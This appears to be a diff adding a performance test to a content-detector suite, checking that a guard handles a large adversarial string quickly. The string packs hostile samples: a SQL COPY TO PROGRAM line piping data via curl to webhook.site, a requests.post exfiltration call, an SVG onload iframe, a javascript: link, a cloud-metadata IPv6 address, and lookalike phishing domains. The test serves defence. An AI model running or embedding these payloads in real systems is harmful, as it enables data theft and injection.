@@ -693,6 +693,16 @@ describe('content detectors on adversarial input', () => {
     expect(r.ok).toBe(true);
     expect(cpu() - started).toBeLessThan(BOUND_MS * 4);
   });
+  it('the whole guard on the largest content of data work URLs', () => {
+    const text = rep(
+      `<iframe src="data:image/svg+xml;utf8,%3Csvg%20onload=x%3E"></iframe> COPY t TO PROGRAM 'curl -d @- https://webhook.site/a' requests.post("https://webhook.site/a", json=rows) rows = x https://webhook.site/a?r=a%40b.c,d%40e.f https://t.co/?u=https%253A%252F%252Fgooqle.com http://[fd00:ec2:0:0:0:0:0:254]/ https://paypal．com．x.io/ <a href="javascript :x">a</a> `,
+      800_000,
+    );
+    const started = cpu();
+    const r = guard(text, CONTENT_QUESTIONS);
+    expect(r.ok).toBe(true);
+    expect(cpu() - started).toBeLessThan(BOUND_MS * 4);
+  });
   it('the whole guard on a forwarded mail in base64 three deep', () => {
     let mail = `Subject: hi\nContent-Type: text/plain\n\n${'Quarterly numbers attached, see the table below.\n'.repeat(6600)}`;
     for (let d = 0; d < 3; d++) {
